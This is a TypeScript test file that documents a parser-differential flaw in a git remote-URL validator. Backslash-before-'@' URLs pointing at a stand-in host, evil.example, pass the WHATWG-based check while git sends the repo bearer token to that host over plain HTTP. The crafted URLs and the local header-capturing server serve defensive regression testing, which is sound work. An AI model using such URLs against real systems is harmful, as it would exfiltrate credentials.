/**
 * Attack: `remoteUrlProblem` (src/git/remote-url.ts) judges a URL with the WHATWG parser, but git and
 * curl parse it their own way. For a special scheme WHATWG reads `\` as `/`, so
 * `http://localhost\@127.0.0.2:<port>/x` is "plain http to localhost, no user name" to the check,
 * while git reads `localhost\` as the user name and connects to the host after `@`. The header's
 * `http.<url>.extraHeader` scope is the same string, so it matches, and the repo token goes over plain
 * HTTP to a host that is not loopback-listed (any network host in production: `evil.example`).
 * 127.0.0.2 stands for that host here (a loopback address the check does not accept for plain http).
 */
import { mkdtempSync, rmSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { RepoTokens } from '../../../src/adapters/artifacts/tokens.ts'
import { gitWithToken } from '../../../src/adapters/artifacts/transport.ts'
import { remoteUrlProblem } from '../../../src/git/remote-url.ts'
import { artifactsHarness } from './harness.ts'

const cleanups: (() => Promise<void> | void)[] = []
afterEach(async () => {
  for (const fn of cleanups.splice(0).reverse()) await fn()
})

/** A plain HTTP server on 127.0.0.2 that records every Authorization header and answers 404. */
async function elsewhere() {
  const seen: (string | null)[] = []
  const server: Server = createServer((req, res) => {
    seen.push(req.headers.authorization ?? null)
    res.writeHead(404)
    res.end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.2', resolve))
  cleanups.push(() => new Promise<void>((resolve) => server.close(() => resolve())))
  return { port: (server.address() as AddressInfo).port, seen }
}

describe('the WHATWG check and git agree on the host a token goes to', () => {
  it.each([
    'http://localhost\\@evil.example/repo.git',
    'http://127.0.0.1\\@evil.example/repo.git',
    'http://[::1]\\@evil.example/repo.git',
    'https://acct.artifacts.cloudflare.net\\@evil.example/repo.git',
  ])('refuses %j (git reads everything before @ as a user name)', (url) => {
    // Fails today: WHATWG reads `\` as a path separator, so the check sees no user name.
    expect(remoteUrlProblem(url)).not.toBeNull()
  })

  it('a repo token never travels over plain http to a host other than loopback-listed ones', async () => {
    const { standIn, client } = await artifactsHarness()
    cleanups.push(() => standIn.stop())
    standIn.seedRepo('one')
    const other = await elsewhere()
    const cwd = mkdtempSync(join(tmpdir(), 'gittrix-backslash-'))
    cleanups.push(() => rmSync(cwd, { recursive: true, force: true }))
    const remote = `http://localhost\\@127.0.0.2:${other.port}/repo.git`
    await gitWithToken(
      client,
      new RepoTokens(client),
      { repo: 'one', remote },
      'read',
      ['ls-remote', remote],
      {
        cwd,
      },
    ).catch(() => undefined)
    // Fails today: git connected to 127.0.0.2 and sent `Authorization: Bearer <repo token>` in clear.
    expect(other.seen.filter((auth) => auth?.startsWith('Bearer '))).toEqual([])
  })
})
